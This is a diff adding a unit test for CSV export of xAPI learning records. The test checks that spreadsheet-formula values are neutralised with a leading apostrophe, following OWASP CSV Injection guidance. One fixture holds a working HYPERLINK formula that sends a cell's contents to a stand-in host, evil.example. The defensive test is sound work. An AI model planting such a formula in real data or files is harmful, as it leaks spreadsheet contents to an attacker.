@@ -35,3 +35,22 @@ describe('CSV export rows', () => {
     expect(row).toMatchObject({ actor: 'mailto:a@paud.example', actor_name: '', object_type: 'Activity', score_scaled: '', success: 'true', completion: '', npsn: '50200123', kecamatan: '', statement: json })
   })
 })
+
+describe('CSV export rows and spreadsheet formulas (OWASP CSV Injection)', () => {
+  it('quotes a name or extension text that a spreadsheet would run, and leaves numbers as numbers', () => {
+    const json = JSON.stringify({
+      id: 'e1b8c1a0-0000-4000-8000-000000000002',
+      actor: { mbox: 'mailto:a@paud.example', name: '=HYPERLINK("https://evil.example/?"&A1,"klik")' },
+      verb: { id: 'http://adlnet.gov/expapi/verbs/scored' },
+      object: { id: 'https://tln.example/post-test' },
+      result: { score: { raw: -3, scaled: -0.5 } },
+      context: { extensions: { 'https://tln.example/xapi/extensions/kecamatan': '@Praya', 'https://tln.example/xapi/extensions/npsn': '-50200123', 'https://tln.example/xapi/extensions/tln-group': -1 } },
+    })
+    const row = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, csvValues(json)[i]]))
+    expect(row).toMatchObject({
+      actor_name: '\'=HYPERLINK("https://evil.example/?"&A1,"klik")', kecamatan: "'@Praya", npsn: "'-50200123",
+      score_raw: '-3', score_scaled: '-0.5', tln_group: '-1',
+    })
+    expect(row.statement).toBe(json)
+  })
+})
